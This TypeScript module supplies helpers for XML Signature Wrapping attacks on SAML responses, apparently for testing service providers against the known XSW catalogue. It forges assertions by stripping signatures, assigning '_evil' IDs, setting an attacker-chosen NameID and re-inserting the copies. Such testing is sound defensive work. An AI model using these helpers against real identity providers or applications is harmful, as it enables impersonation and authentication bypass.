import { DOMParser, type Document, type Element, XMLSerializer } from "@xmldom/xmldom";

/**
 * DOM surgery on signed SAML responses, for the attacks: what an attacker holding one valid response does to it
 * before posting it. Names follow SAML Raider's XSW catalogue (Somorovsky et al., "On Breaking SAML", 2012).
 */

export const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
export const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
export const DS = "http://www.w3.org/2000/09/xmldsig#";

export const parseXml = (xml: string): Document => new DOMParser().parseFromString(xml, "text/xml");
export const serialize = (node: Document | Element): string => new XMLSerializer().serializeToString(node);

export const responseOf = (doc: Document): Element => doc.documentElement!;
export const assertionOf = (parent: Document | Element): Element =>
  parent.getElementsByTagNameNS(SAML, "Assertion")[0]!;

/** The element's own ds:Signature child, if any. */
export function signatureOf(element: Element): Element | undefined {
  for (let node = element.firstChild; node; node = node.nextSibling) {
    if (
      node.nodeType === 1 &&
      (node as Element).namespaceURI === DS &&
      (node as Element).localName === "Signature"
    ) {
      return node as Element;
    }
  }
  return undefined;
}

/** Sets the text of every NameID under `root` (the attacker's chosen identity). */
export function setNameId(root: Element, value: string) {
  for (const nameId of Array.from(root.getElementsByTagNameNS(SAML, "NameID"))) nameId.textContent = value;
}

/** A deep copy of `element` as the attacker's forgery: another ID, no signature, the attacker's NameID. */
export function forgedCopy(element: Element, nameId: string, id = `_evil${crypto.randomUUID()}`): Element {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute("ID", id);
  const signature = signatureOf(copy);
  if (signature) copy.removeChild(signature);
  setNameId(copy, nameId);
  return copy;
}

/** Inserts `node` as the element child of `parent` right after its Issuer (where a Signature sits). */
export function insertAfterIssuer(parent: Element, node: Element) {
  const issuer = parent.getElementsByTagNameNS(SAML, "Issuer")[0]!;
  parent.insertBefore(node, issuer.nextSibling);
}
